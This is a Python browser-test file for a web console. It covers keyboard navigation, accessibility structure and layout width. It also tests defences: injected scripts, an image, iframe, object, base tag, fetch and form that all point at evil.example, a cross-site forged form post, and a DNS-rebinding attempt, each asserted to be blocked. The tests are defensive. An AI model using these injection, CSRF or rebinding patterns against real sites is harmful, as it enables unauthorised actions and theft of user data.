"""Who can use the pages, and who cannot abuse them: keys, landmarks, narrow windows; other sites.

All of it in a real browser.
"""

import asyncio
from contextlib import asynccontextmanager
from datetime import UTC, datetime

import pytest
from api_serving import all_of, talked
from console_world import CONSOLE
from test_console_browser import looking, served, shown, until
from test_console_folds import claimed, fold_of, unfolded, with_claims

from refold.console.app import open_address

pytestmark = pytest.mark.timeout(600)
TALK = f"{CONSOLE}/sessions/talk"


async def screens(world):
    """The address of each screen of a session with two requests, a fold and a plan for another."""
    await talked(world, "default", "talk", turns=4)
    await unfolded(world, session="open")
    fold = await fold_of(world)
    record = (await world.store.log("default").outlined("talk")).outline.record
    return {
        "sessions": CONSOLE,
        "search": f"{CONSOLE}?q=parcel",
        "timeline": TALK,
        "fold in place": f"{TALK}/folds/{fold.seq}",
        "window": f"{TALK}/window",
        "request": f"{TALK}/requests/{record}",
        "difference": f"{TALK}/requests/{record}/since/7",
        "preview": f"{CONSOLE}/sessions/open/folds/new",
        "summary": f"{TALK}/folds/{fold.seq}/summary",
        "costs": f"{TALK}/costs",
        "money": f"{CONSOLE}/money",
        "day": f"{CONSOLE}/money/{datetime.now(UTC).date()}",
        "what if": f"{CONSOLE}/what-if?session=talk&session=open",
        "problem": f"{CONSOLE}/sessions/none",
        "sign in": f"{CONSOLE}/sign-in",
    }


# Keys.


async def test_a_question_mark_shows_the_keys_and_escape_hides_them(chromium):
    async with served() as world:
        await talked(world, "default", "talk")
        async with looking(chromium, world, TALK) as page:
            await page.keyboard.press("?")
            dialog = page.get_by_role("dialog", name="Keys")
            await dialog.wait_for()
            assert "Search everything that was said" in await dialog.inner_text()
            await page.keyboard.press("Escape")
            await dialog.wait_for(state="hidden")
            await page.get_by_role("button", name="Keys").click()
            await dialog.get_by_role("button", name="Close").click()
            await dialog.wait_for(state="hidden")


async def test_a_slash_leads_to_the_search_from_every_screen(chromium):
    async with served() as world:
        found = await screens(world)
        async with looking(chromium, world) as page:
            for where in (found["timeline"], found["summary"], found["sessions"]):
                await page.goto(world.where + where)
                await page.keyboard.press("/")
                if where != found["sessions"]:
                    await page.wait_for_url(f"**{CONSOLE}#q")
                await until(page, "document.activeElement.id === 'q'")
                await page.keyboard.type("parcel/")
                assert await page.locator("#q").input_value() == "parcel/"
                await page.keyboard.press("Escape")
                assert await page.evaluate("document.activeElement === document.body")


async def test_every_screen_is_walked_and_opened_by_keys(chromium):
    async with served() as world:
        found = await screens(world)
        async with looking(chromium, world) as page:
            for name in ("sessions", "search", "timeline", "request", "preview", "summary"):
                await page.goto(world.where + found[name])
                seen = []
                for _ in range(60):
                    await page.keyboard.press("j")
                    seen.append(await page.evaluate(FOCUSED))
                    if seen[-2:-1] == seen[-1:]:
                        break  # the end
                assert len({*seen}) == len(seen) - 1, (name, seen)
                await page.keyboard.press("k")
                before = seen[-3] if len(seen) > 2 else seen[0]
                assert await page.evaluate(FOCUSED) == before, name


FOCUSED = """() => {
  const at = document.activeElement;
  return [...document.querySelectorAll("*")].indexOf(at) + " " + at.tagName + " " + at.id;
}"""


async def test_what_is_inside_an_open_fold_is_walked_too(chromium):
    async with served() as world:
        await talked(world, "default", "talk", turns=4)
        async with looking(chromium, world, TALK) as page:
            for _ in range(9):
                await page.keyboard.press("j")
                if await page.evaluate("document.activeElement.matches('.fold > summary')"):
                    break
            await page.keyboard.press("Enter")
            await page.locator("details.fold article").first.wait_for()
            inside = []
            for _ in range(4):
                await page.keyboard.press("j")
                inside.append(await page.evaluate("document.activeElement.id"))
            assert len({*inside}) == 4
            assert await page.evaluate("!!document.activeElement.closest('details.fold')")


async def test_requests_are_walked_with_n_and_p(chromium):
    async with served() as world:
        await talked(world, "default", "talk", turns=4)
        async with looking(chromium, world, f"{TALK}/requests/7") as page:
            await page.keyboard.press("n")
            await page.wait_for_url("**/requests/11")
            await page.keyboard.press("p")
            await page.wait_for_url("**/requests/7")


async def test_the_first_stop_of_the_tab_key_skips_to_the_page(chromium):
    async with served() as world:
        await talked(world, "default", "talk")
        async with looking(chromium, world, TALK) as page:
            await page.evaluate("scrollTo(0, 0)")
            await page.keyboard.press("Tab")
            assert await page.evaluate("document.activeElement.className") == "skip"
            assert await page.locator(".skip").evaluate("(x) => x.getBoundingClientRect().left") > 0
            order = []
            for _ in range(16):
                await page.keyboard.press("Tab")
                order.append(await page.evaluate("document.activeElement.textContent.trim()"))
            assert order[:1] == ["Refold"]
            assert order.index("Timeline") < order.index("Window over time")


# What a screen reader finds.


async def test_every_screen_has_landmarks_headings_and_names(chromium):
    async with served() as world:
        found = await screens(world)
        async with looking(chromium, world) as page:
            for name, where in found.items():
                if name == "problem":
                    continue  # the browser's console has a line of it: see below
                await page.goto(world.where + where)
                assert await page.evaluate(STRUCTURE) == [], name


async def test_a_problem_has_landmarks_headings_and_names(chromium):
    async with served() as world:
        context = await chromium.new_context()
        page = await context.new_page()
        await page.goto(open_address(world.where, world.access.new_token(), TALK))
        assert "There is no session" in await page.locator("h1").inner_text()
        assert await page.evaluate(STRUCTURE) == []
        await context.close()


STRUCTURE = """() => {
  const wrong = [], all = (selector) => [...document.querySelectorAll(selector)];
  const shown = (selector) => all(selector).filter((each) => each.checkVisibility());
  const name = (each) => (each.getAttribute("aria-label") || each.textContent
    || each.querySelector("img[alt]")?.alt || "").trim();
  if (!document.documentElement.lang) wrong.push("no language");
  if (!document.title.trim()) wrong.push("no title");
  for (const [selector, count] of [["main", 1], ["h1", 1], ["header.top", 1]])
    if (shown(selector).length !== count) wrong.push(`${shown(selector).length} of ${selector}`);
  let level = 0;
  for (const each of shown("h1, h2, h3, h4, h5, h6")) {
    const next = +each.tagName[1];
    if (next > level + 1) wrong.push(`h${level} is followed by h${next}: ${name(each)}`);
    level = next;
  }
  for (const each of shown("nav, section[aria-labelledby], dialog")) {
    const by = each.getAttribute("aria-labelledby");
    const named = by ? document.getElementById(by) : each.getAttribute("aria-label");
    if (!named) wrong.push("a nameless " + each.tagName);
  }
  for (const each of shown("input:not([type=hidden]), select, textarea"))
    if (!each.getAttribute("aria-label") && !(each.labels.length && name(each.labels[0])))
      wrong.push("no label: " + each.name);
  for (const each of shown("a, button, summary"))
    if (!each.closest("svg") && !name(each)) wrong.push("no name: " + each.outerHTML);
  for (const each of shown("img:not([alt])")) wrong.push("no words for " + each.src);
  for (const each of shown("table"))
    if (!each.querySelector("th[scope]")) wrong.push("a table without heads");
  const ids = all("[id]").map((each) => each.id);
  const twice = ids.filter((each, at) => ids.indexOf(each) !== at);
  if (twice.length) wrong.push("twice: " + twice);
  return wrong;
}"""


@pytest.mark.parametrize("width", [390, 2560])
async def test_no_screen_is_wider_than_its_window(chromium, width):
    async with served() as world:
        found = await screens(world)
        fold = await with_claims(world, claimed(), session="claims")
        found["claims"] = f"{CONSOLE}/sessions/claims/folds/{fold.seq}/summary"
        async with looking(chromium, world) as page:
            await page.set_viewport_size({"width": width, "height": 844})
            for name, where in found.items():
                if name == "problem":
                    continue
                await page.goto(world.where + where)
                over = await page.evaluate(
                    "document.documentElement.scrollWidth - document.documentElement.clientWidth"
                )
                assert over <= 0, name


# Other sites, other names.


async def test_what_is_put_into_a_page_does_not_run(chromium):
    """The policy of the pages, tried: inline code, evaluated code, other sites, styles."""
    async with served() as world:
        await talked(world, "default", "talk")
        context = await chromium.new_context()
        page = await context.new_page()
        asked = []
        await page.route("**/*.example/**", lambda route: asked.append(route.request.url))
        await page.goto(open_address(world.where, world.access.new_token(), TALK))
        broken = await page.evaluate(INJECTED)
        assert {*broken} == {
            *("script-src-elem", "script-src-attr", "style-src-attr", "style-src-elem"),
            *("img-src", "connect-src", "frame-src", "object-src", "form-action", "base-uri"),
        }
        assert await page.evaluate("window.ran") is None
        assert asked == []
        assert page.url.startswith(world.where)
        await context.close()


INJECTED = """async () => {
  const broken = [];
  const note = (event) => broken.push(event.effectiveDirective);
  document.addEventListener("securitypolicyviolation", note);
  const add = (html) => {
    const box = document.createElement("div");
    box.innerHTML = html;
    document.body.append(box);
    return box;
  };
  const script = document.createElement("script");
  script.textContent = "window.ran = 'inline'";
  document.body.append(script);
  add("<button onclick=\\"window.ran = 'handler'\\">x</button>").firstChild.click();
  add("<p style='color: red'>x</p><style>p { color: red }</style>");
  add("<img src='https://evil.example/x.png'>");
  add("<iframe src='https://evil.example/'></iframe>");
  add("<object data='https://evil.example/o'></object>");
  const base = document.createElement("base");
  base.href = "https://evil.example/";
  document.head.append(base);
  await fetch("https://evil.example/take").catch(() => {});
  add("<form action='https://evil.example/' method=post></form>").firstChild.submit();
  await new Promise((done) => setTimeout(done, 800));
  return broken;
}"""


async def test_a_token_opens_the_console_for_one_browser_only(chromium):
    async with served() as world:
        await talked(world, "default", "talk")
        address = open_address(world.where, world.access.new_token(), TALK)
        async with looking(chromium, world) as page:
            first = await (await chromium.new_context()).new_page()
            await first.goto(address)
            assert "token" not in first.url
            assert "parcel" in await first.inner_text("main")
            await first.context.close()
            assert page.url.endswith(CONSOLE)
        second = await (await chromium.new_context()).new_page()
        answer = await second.goto(address)
        assert answer.status == 401
        assert "This address was used" in await second.inner_text("main")
        assert await second.context.cookies() == []
        await second.context.close()


@asynccontextmanager
async def site(html):
    """Another site, on another port of this machine; its port."""

    async def answer(reader, writer):
        await reader.readuntil(b"\r\n\r\n")
        head = f"HTTP/1.1 200 OK\r\ncontent-type: text/html\r\ncontent-length: {len(html)}\r\n"
        writer.write(f"{head}connection: close\r\n\r\n{html}".encode())
        await writer.drain()
        writer.close()

    server = await asyncio.start_server(answer, "127.0.0.1", 0)
    yield server.sockets[0].getsockname()[1]
    server.close()


@pytest.mark.parametrize("host", ["127.0.0.1", "localhost"])
async def test_a_form_of_another_site_changes_nothing(chromium, host):
    async with served() as world:
        await talked(world, "default", "talk", turns=4)
        fold = await fold_of(world)
        before = await all_of(world.store, "default")
        html = f"""<form method="post" action="{world.where}{TALK}/folds/{fold.seq}/undo">
          <input name="form_token" value="guessed"></form>
          <script>document.forms[0].submit()</script>"""
        async with site(html) as port:
            context = await chromium.new_context()
            page = await context.new_page()
            await page.goto(open_address(world.where, world.access.new_token(), TALK))
            await page.goto(f"http://{host}:{port}/")
            await page.wait_for_url("**/undo")
            assert "403" in await page.inner_text("main")
            await context.close()
        assert await all_of(world.store, "default") == before


async def test_a_name_that_is_rebound_to_this_machine_reads_nothing(rebound_chromium):
    """DNS rebinding: a site's own name has the address of this machine, and the console's port."""
    async with served() as world:
        await talked(world, "default", "talk")
        port = world.where.rpartition(":")[2]
        token = world.access.new_token()
        context = await rebound_chromium.new_context()
        page = await context.new_page()
        answer = await page.goto(open_address(f"http://evil.example:{port}", token))
        assert answer.status == 403
        statuses = await page.evaluate(
            """async () => Promise.all(["", "/sessions/talk", "/sign-in", "/assets/console.js"].map(
                 async (each) => (await fetch("/console" + each)).status))"""
        )
        assert statuses == [403] * 4
        assert await context.cookies() == []
        # The token is still good for who may use it.
        assert (await page.goto(open_address(world.where, token))).status == 200
        assert len(await shown(page, ".row")) == 1
        await context.close()
